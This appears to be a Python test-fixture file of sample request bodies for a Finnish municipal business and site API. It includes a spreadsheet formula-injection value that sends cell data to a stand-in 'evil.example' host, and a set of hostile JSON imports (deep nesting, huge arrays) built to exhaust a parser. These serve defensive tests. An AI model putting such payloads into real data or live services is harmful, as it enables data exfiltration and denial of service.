"""Request bodies that tests start from and vary, and the worst shapes a body can take."""

import json


def municipality(code: str = "226", **changes) -> dict:
    return {"code": code, "name": {"fi": "Karstula"}, "population": 3774, "postal_code": "43500", **changes}


def spearhead(slug: str = "wood-bioeconomy", **changes) -> dict:
    return {"slug": slug, "title": {"fi": "Puu ja biotalous", "en": "Wood and bioeconomy"}, **changes}


def company(business_id: str = "0112038-9", **changes) -> dict:
    return {
        "business_id": business_id,
        "name": "Karstulan Puutuote Oy",
        "description": {"fi": "Sahatavaraa ja hirsitaloja.", "en": "Sawn timber and log houses."},
        "industry_code": "16100",
        "street_address": "Keskustie 1",
        "postal_code": "43500",
        "post_office": "KARSTULA",
        "latitude": 62.878,
        "longitude": 24.8,
        "website": "https://www.puutuote.example",
        "email": "info@puutuote.example",
        "phone": "014 459 1111",
        "size_class": "10-19",
        "founded_year": 1987,
        "tags": ["saha", "vienti"],
        "growth_seeking": True,
        "international": False,
        **changes,
    }


def formula_like_company(business_id: str = "0112038-9", **changes) -> dict:
    """Values that a spreadsheet would run as formulas (OWASP's CSV injection) and legitimate ones that look alike."""
    looks_like_formulas = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "description": {"fi": "-20 % alennus", "sv": "+SUM(1;2)", "en": "@SUM(A1:A9)"},
        "phone": "+358 40 123 4567",
        "tags": ["-alennus", "@koti"],
    }
    return company(business_id, **{**looks_like_formulas, **changes})


def event(**changes) -> dict:
    return {
        "title": {"fi": "Sijoittumisstrategian työpaja"},
        "start_time": "2020-12-08T09:00:00+02:00",
        "end_time": "2020-12-08T12:00:00+02:00",
        "is_online": True,
        **changes,
    }


def nested(depth: int, leaf=1, key: str | None = "a"):
    """A value nested `depth` levels deep: objects under `key`, or arrays when key is None."""
    value = leaf
    for _ in range(depth):
        value = [value] if key is None else {key: value}
    return value


def deep_bytes(depth: int, opening: bytes, closing: bytes, leaf: bytes = b"1") -> bytes:
    """JSON text nested far deeper than any parser's recursion (json.dumps itself would overflow)."""
    return opening * depth + leaf + closing * depth


def import_row(field: str, raw_value: bytes) -> bytes:
    """A JSON import of one company whose `field` is the raw JSON text given."""
    return b'[{"business_id": "9863462-5", "name": "Syva Oy", "' + field.encode() + b'": ' + raw_value + b"}]"


# What an editor's JSON import could send: nested past any company's shape, or rows far past a
# company's size. Each must be refused at once with bounded memory (tests/test_hostile.py).
HOSTILE_IMPORTS = {
    "arrays 100,000 deep in tags": import_row("tags", deep_bytes(100_000, b"[", b"]", b"")),
    "objects 100,000 deep in description": import_row("description", deep_bytes(100_000, b'{"fi":', b"}")),
    "rows nested 100,000 deep": deep_bytes(100_000, b"[", b"]"),
    "one level past a company": import_row("description", b'{"fi": {"x": 1}}'),
    "a million tags": import_row("tags", b"[" + b",".join([b'"x"'] * 1_000_000) + b"]"),
    "a row of 200,000 fields": b"[{" + b",".join(b'"f%d": 0' % n for n in range(200_000)) + b"}]",
    "object at the top": json.dumps({"business_id": "9863462-5"}).encode(),
    "truncated": b'[{"business_id": "9863462-5", "tags": [[',
    "NaN": b'[{"business_id": "9863462-5", "latitude": NaN}]',
    "invalid UTF-8": b'[{"business_id": "9863462-5", "name": "\xc3\x28"}]',
    "trailing garbage": b'[{"business_id": "9863462-5"}] {}',
}


def site(**changes) -> dict:
    return {
        "kind": "plot",
        "title": {"fi": "Teollisuustontti Kiertotie 4", "en": "Industrial plot, Kiertotie 4"},
        "description": {"fi": "Tasainen tontti valtatien varressa."},
        "municipality": "226",
        "street_address": "Kiertotie 4",
        "postal_code": "43500",
        "post_office": "KARSTULA",
        "latitude": 62.881,
        "longitude": 24.79,
        "plot_area_m2": 12000,
        "uses": ["industry", "warehouse"],
        "zoning": "industrial",
        "availability": "available",
        "offer": "sale",
        "price": {"amount": 4, "unit": "per_m2"},
        "available_from": "2027-01-01",
        "connections": ["electricity", "water", "road"],
        "owner": {"name": "Karstulan kunta"},
        "contact": {"name": "Elinkeinoasiamies", "phone": "014 459 1111", "email": "yritys@karstula.example"},
        "image_urls": ["https://www.karstula.example/tontti.jpg"],
        **changes,
    }


def action(spearhead: str = "wood-bioeconomy", **changes) -> dict:
    return {
        "spearhead": spearhead,
        "kind": "cooperation",
        "title": {"fi": "Yhteinen puurakentamisen hankintarengas", "en": "A joint procurement ring for wood construction"},
        "description": {"fi": "Kunnat hankkivat puurakentamista yhdessä sahojen kanssa."},
        "stage": "proposed",
        "responsible": {"name": "Viitasaaren elinkeinopalvelut"},
        "municipalities": ["931"],
        "starts_on": "2027-01-15",
        "due_on": "2027-06-30",
        **changes,
    }
